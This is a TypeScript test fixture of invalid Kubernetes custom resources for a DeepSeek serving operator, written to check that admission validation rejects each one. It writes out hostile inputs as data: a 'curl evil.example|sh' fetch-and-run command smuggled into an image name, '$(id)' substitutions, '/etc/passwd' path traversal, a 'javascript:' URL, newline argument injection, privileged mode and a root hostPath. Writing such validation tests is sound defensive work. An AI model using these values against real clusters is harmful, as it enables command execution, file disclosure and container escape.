// Invalid DeepSeekDeployments, as platform teams get them wrong and as an attacker would try. Each is a
// valid base with one change; `field` is what the apiserver's message must name. `strictOnly` marks
// what only strict field validation refuses (an unknown field: the zod schema strips it instead).
export interface AdmissionCase {
  name: string;
  /** Merged over the valid base (objects merge, anything else replaces). */
  patch: Record<string, unknown>;
  field: string;
  strictOnly?: boolean;
}

const SHA = "60d8d70770c6776ff598c94bb586a859a38244f1";
const spec = (s: Record<string, unknown>) => ({ spec: s });
const hf = (h: Record<string, unknown>) => spec({ model: { source: { huggingFace: h } } });
const pvc = (p: Record<string, unknown>) => spec({ model: { source: { pvc: { claimName: "weights", ...p } } } });
const engine = (e: Record<string, unknown>) => spec({ engine: e });
const sched = (s: Record<string, unknown>) => spec({ scheduling: s });
const svc = (s: Record<string, unknown>) => spec({ service: s });

export const BASE = {
  apiVersion: "serving.deepseek-operator.io/v1alpha1",
  kind: "DeepSeekDeployment",
  metadata: { name: "catalogue" },
  spec: { model: { revision: SHA }, gpu: { type: "H200" } },
};

export const CASES: AdmissionCase[] = [
  // metadata
  { name: "a name longer than 40 characters", patch: { metadata: { name: "a".repeat(41) } }, field: "metadata.name" },
  { name: "a name starting with a digit", patch: { metadata: { name: "1flash" } }, field: "metadata.name" },
  { name: "a name with a dot", patch: { metadata: { name: "flash.v4" } }, field: "metadata.name" },
  // model
  {
    name: "a branch name under the Pinned policy",
    patch: spec({ model: { revision: "main" } }),
    field: "spec.model.revision",
  },
  {
    name: "a revision with shell syntax",
    patch: spec({ model: { revision: "$(id)", revisionPolicy: "AllowBranch" } }),
    field: "spec.model.revision",
  },
  {
    name: "a repo id that walks up the tree",
    patch: spec({ model: { name: "../../etc/passwd" } }),
    field: "spec.model.name",
  },
  {
    name: "a repo id with a space",
    patch: spec({ model: { name: "deepseek-ai/DeepSeek V4" } }),
    field: "spec.model.name",
  },
  {
    name: "an unknown revision policy",
    patch: spec({ model: { revisionPolicy: "Floating" } }),
    field: "spec.model.revisionPolicy",
  },
  {
    name: "two weight sources at once",
    patch: spec({ model: { source: { huggingFace: {}, pvc: { claimName: "w" } } } }),
    field: "spec.model.source",
  },
  { name: "no weight source", patch: spec({ model: { source: {} } }), field: "spec.model.source" },
  {
    name: "an ftp Hub endpoint",
    patch: hf({ endpoint: "ftp://mirror.example.com" }),
    field: "spec.model.source.huggingFace.endpoint",
  },
  {
    name: "a file: Hub endpoint",
    patch: hf({ endpoint: "file:///etc/passwd" }),
    field: "spec.model.source.huggingFace.endpoint",
  },
  {
    name: "a javascript: endpoint",
    patch: hf({ endpoint: "javascript:alert(1)" }),
    field: "spec.model.source.huggingFace.endpoint",
  },
  {
    name: "an endpoint that is not a URL",
    patch: hf({ endpoint: "huggingface.co" }),
    field: "spec.model.source.huggingFace.endpoint",
  },
  {
    name: "a gopher base URL",
    patch: spec({ model: { source: { url: { baseURL: "gopher://bucket.example.com/m" } } } }),
    field: "spec.model.source.url.baseURL",
  },
  {
    name: "a token Secret name with capitals",
    patch: hf({ tokenSecretRef: { name: "HF-Token" } }),
    field: "spec.model.source.huggingFace.tokenSecretRef.name",
  },
  {
    name: "a token Secret key that walks up the tree",
    patch: hf({ tokenSecretRef: { name: "hf", key: "../token" } }),
    field: "spec.model.source.huggingFace.tokenSecretRef.key",
  },
  {
    name: "a token Secret key starting with ..",
    patch: hf({ tokenSecretRef: { name: "hf", key: "..data" } }),
    field: "spec.model.source.huggingFace.tokenSecretRef.key",
  },
  {
    name: "a token Secret key with a space",
    patch: hf({ tokenSecretRef: { name: "hf", key: "hf token" } }),
    field: "spec.model.source.huggingFace.tokenSecretRef.key",
  },
  {
    name: "a PVC name with an underscore",
    patch: pvc({ claimName: "my_weights" }),
    field: "spec.model.source.pvc.claimName",
  },
  { name: "a subPath with ..", patch: pvc({ subPath: "../other-team" }), field: "spec.model.source.pvc.subPath" },
  {
    name: "a subPath with .. inside",
    patch: pvc({ subPath: "models/../../etc" }),
    field: "spec.model.source.pvc.subPath",
  },
  { name: "an absolute subPath", patch: pvc({ subPath: "/etc" }), field: "spec.model.source.pvc.subPath" },
  {
    name: "a subPath with a newline",
    patch: pvc({ subPath: "models\n--trust-remote-code" }),
    field: "spec.model.source.pvc.subPath",
  },
  // weights
  { name: "a PVC size that is not a quantity", patch: spec({ weights: { size: "lots" } }), field: "spec.weights.size" },
  { name: "a PVC too small for the model", patch: spec({ weights: { size: "10Gi" } }), field: "spec.weights.size" },
  {
    name: "a StorageClass name with a space",
    patch: spec({ weights: { storageClassName: "fast ssd" } }),
    field: "spec.weights.storageClassName",
  },
  {
    name: "an unknown access mode",
    patch: spec({ weights: { accessMode: "ReadWriteAll" } }),
    field: "spec.weights.accessMode",
  },
  {
    name: "an unknown reclaim policy",
    patch: spec({ weights: { reclaimPolicy: "Purge" } }),
    field: "spec.weights.reclaimPolicy",
  },
  {
    name: "zero download concurrency",
    patch: spec({ weights: { download: { concurrency: 0 } } }),
    field: "spec.weights.download.concurrency",
  },
  {
    name: "a download timeout of 2^60 seconds",
    patch: spec({ weights: { download: { timeoutSeconds: 2 ** 60 } } }),
    field: "spec.weights.download.timeoutSeconds",
  },
  // engine
  { name: "an unknown engine", patch: engine({ type: "tgi" }), field: "spec.engine.type" },
  {
    name: "an image reference with spaces",
    patch: engine({ image: "vllm/vllm-openai latest" }),
    field: "spec.engine.image",
  },
  {
    name: "an image reference with a shell command",
    patch: engine({ image: "vllm/vllm-openai:v1;curl evil.example|sh" }),
    field: "spec.engine.image",
  },
  {
    name: "an image repository with capitals",
    patch: engine({ image: "VLLM/vllm-openai:v1" }),
    field: "spec.engine.image",
  },
  {
    name: "65 extra arguments",
    patch: engine({ extraArgs: Array.from({ length: 65 }, () => "--x") }),
    field: "spec.engine.extraArgs",
  },
  {
    name: "an extra argument of 2 KiB",
    patch: engine({ extraArgs: ["a".repeat(2048)] }),
    field: "spec.engine.extraArgs[0]",
  },
  {
    name: "an env name starting with a digit",
    patch: engine({ env: [{ name: "1BAD", value: "x" }] }),
    field: "spec.engine.env[0].name",
  },
  {
    name: "an env name with =",
    patch: engine({ env: [{ name: "A=B", value: "x" }] }),
    field: "spec.engine.env[0].name",
  },
  {
    name: "an env var overriding the LWS worker index",
    patch: engine({ env: [{ name: "LWS_WORKER_INDEX", value: "a[$(id)]" }] }),
    field: "spec.engine.env[0].name",
  },
  {
    name: "an env var replacing the API key",
    patch: engine({ env: [{ name: "VLLM_API_KEY", value: "known" }] }),
    field: "spec.engine.env[0].name",
  },
  {
    name: "an env var replacing the operator's SGLang key variable",
    patch: engine({ env: [{ name: "DSO_SGLANG_API_KEY", value: "known" }] }),
    field: "spec.engine.env[0].name",
  },
  {
    name: "running the engine as UID 0 through runAsUser",
    patch: engine({ runAsUser: 0 }),
    field: "spec.engine.runAsUser",
  },
  { name: "rdma as a string", patch: engine({ rdma: "yes" }), field: "spec.engine.rdma" },
  // gpu
  { name: "an unknown GPU", patch: spec({ gpu: { type: "RTX4090" } }), field: "spec.gpu.type" },
  { name: "3 GPUs per replica", patch: spec({ gpu: { count: 3 } }), field: "spec.gpu.count" },
  { name: "0 GPUs per replica", patch: spec({ gpu: { count: 0 } }), field: "spec.gpu.count" },
  { name: "100 GPUs per node", patch: spec({ gpu: { perNode: 100 } }), field: "spec.gpu.perNode" },
  // context
  {
    name: "a context of 2M tokens",
    patch: spec({ context: { maxModelLen: 2_000_000 } }),
    field: "spec.context.maxModelLen",
  },
  { name: "a context of 0 tokens", patch: spec({ context: { maxModelLen: 0 } }), field: "spec.context.maxModelLen" },
  {
    name: "more output than context",
    patch: spec({ context: { maxModelLen: 4096, maxOutputTokens: 8192 } }),
    field: "spec.context.maxOutputTokens",
  },
  { name: "an int4 KV cache", patch: spec({ context: { kvCacheDtype: "int4" } }), field: "spec.context.kvCacheDtype" },
  {
    name: "a concurrency beyond 2^53",
    patch: spec({ context: { targetConcurrency: 2 ** 53 + 2 } }),
    field: "spec.context.targetConcurrency",
  },
  {
    name: "an offload size that is not a quantity",
    patch: spec({ context: { offload: { tier: "CPU", size: "big" } } }),
    field: "spec.context.offload.size",
  },
  {
    name: "FlashMax with a short context",
    patch: spec({ reasoning: { mode: "FlashMax" }, context: { maxModelLen: 8192 } }),
    field: "spec.context.maxModelLen",
  },
  // parallelism
  { name: "tensor parallelism of 3", patch: spec({ parallelism: { tensor: 3 } }), field: "spec.parallelism" },
  {
    name: "decode context parallelism without tensor parallelism",
    patch: spec({ parallelism: { decodeContext: 2 } }),
    field: "spec.parallelism.decodeContext",
  },
  {
    name: "17 nodes per replica",
    patch: spec({ parallelism: { nodesPerReplica: 17 } }),
    field: "spec.parallelism.nodesPerReplica",
  },
  {
    name: "GPUs not divisible by TP × DP",
    patch: spec({ gpu: { count: 8 }, parallelism: { tensor: 4, data: 4 } }),
    field: "spec.gpu.count",
  },
  // replicas and autoscaling
  { name: "negative replicas", patch: spec({ replicas: -1 }), field: "spec.replicas" },
  { name: "a million replicas", patch: spec({ replicas: 1_000_000 }), field: "spec.replicas" },
  {
    name: "more minimum than maximum replicas",
    patch: spec({ autoscaling: { minReplicas: 3, maxReplicas: 2 } }),
    field: "spec.autoscaling.minReplicas",
  },
  {
    name: "a zero queue-depth target",
    patch: spec({ autoscaling: { targetQueueDepth: 0 } }),
    field: "spec.autoscaling.targetQueueDepth",
  },
  {
    name: "an unknown autoscaling mode",
    patch: spec({ autoscaling: { mode: "Magic" } }),
    field: "spec.autoscaling.mode",
  },
  // scheduling
  {
    name: "a node selector key with a space",
    patch: sched({ nodeSelector: { "gpu type": "h200" } }),
    field: "spec.scheduling.nodeSelector",
  },
  {
    name: "a node selector key with an empty name",
    patch: sched({ nodeSelector: { "example.com/": "x" } }),
    field: "spec.scheduling.nodeSelector",
  },
  {
    name: "a node selector value with a slash",
    patch: sched({ nodeSelector: { "example.com/pool": "a/b" } }),
    field: "spec.scheduling.nodeSelector.example.com/pool",
  },
  {
    name: "a toleration with Exists and a value",
    patch: sched({ tolerations: [{ key: "gpu", operator: "Exists", value: "x" }] }),
    field: "spec.scheduling.tolerations[0].value",
  },
  {
    name: "tolerationSeconds without NoExecute",
    patch: sched({ tolerations: [{ key: "gpu", operator: "Exists", effect: "NoSchedule", tolerationSeconds: 60 }] }),
    field: "spec.scheduling.tolerations[0].tolerationSeconds",
  },
  {
    name: "a toleration key starting with a dash",
    patch: sched({ tolerations: [{ key: "-gpu", operator: "Exists" }] }),
    field: "spec.scheduling.tolerations[0].key",
  },
  {
    name: "an empty toleration key with Equal",
    patch: sched({ tolerations: [{ operator: "Equal", value: "x" }] }),
    field: "spec.scheduling.tolerations[0].operator",
  },
  {
    name: "a node affinity that is a string",
    patch: sched({ affinity: { nodeAffinity: "gpu=h200" } }),
    field: "spec.scheduling.affinity.nodeAffinity",
  },
  {
    name: "a PriorityClass name with a space",
    patch: sched({ priorityClassName: "high priority" }),
    field: "spec.scheduling.priorityClassName",
  },
  {
    name: "a scheduler name with shell syntax",
    patch: sched({ schedulerName: "$(id)" }),
    field: "spec.scheduling.schedulerName",
  },
  // service
  {
    name: "a LoadBalancer without an API key",
    patch: svc({ type: "LoadBalancer" }),
    field: "spec.service.apiKeySecretRef",
  },
  { name: "a NodePort without an API key", patch: svc({ type: "NodePort" }), field: "spec.service.apiKeySecretRef" },
  { name: "an ExternalName Service", patch: svc({ type: "ExternalName" }), field: "spec.service.type" },
  { name: "port 70000", patch: svc({ port: 70000 }), field: "spec.service.port" },
  {
    name: "a Service annotation key with a space",
    patch: svc({ annotations: { "load balancer": "internal" } }),
    field: "spec.service.annotations",
  },
  {
    name: "an API key Secret name with a space",
    patch: svc({ apiKeySecretRef: { name: "api key" } }),
    field: "spec.service.apiKeySecretRef.name",
  },
  // fields that do not exist: refused by strict field validation, never silently dropped
  {
    name: "a container command in the engine",
    patch: engine({ command: ["sh", "-c", "id"] }),
    field: "spec.engine.command",
    strictOnly: true,
  },
  {
    name: "privileged mode in the engine",
    patch: engine({ privileged: true }),
    field: "spec.engine.privileged",
    strictOnly: true,
  },
  {
    name: "a hostPath volume",
    patch: spec({ volumes: [{ name: "root", hostPath: { path: "/" } }] }),
    field: "spec.volumes",
    strictOnly: true,
  },
];
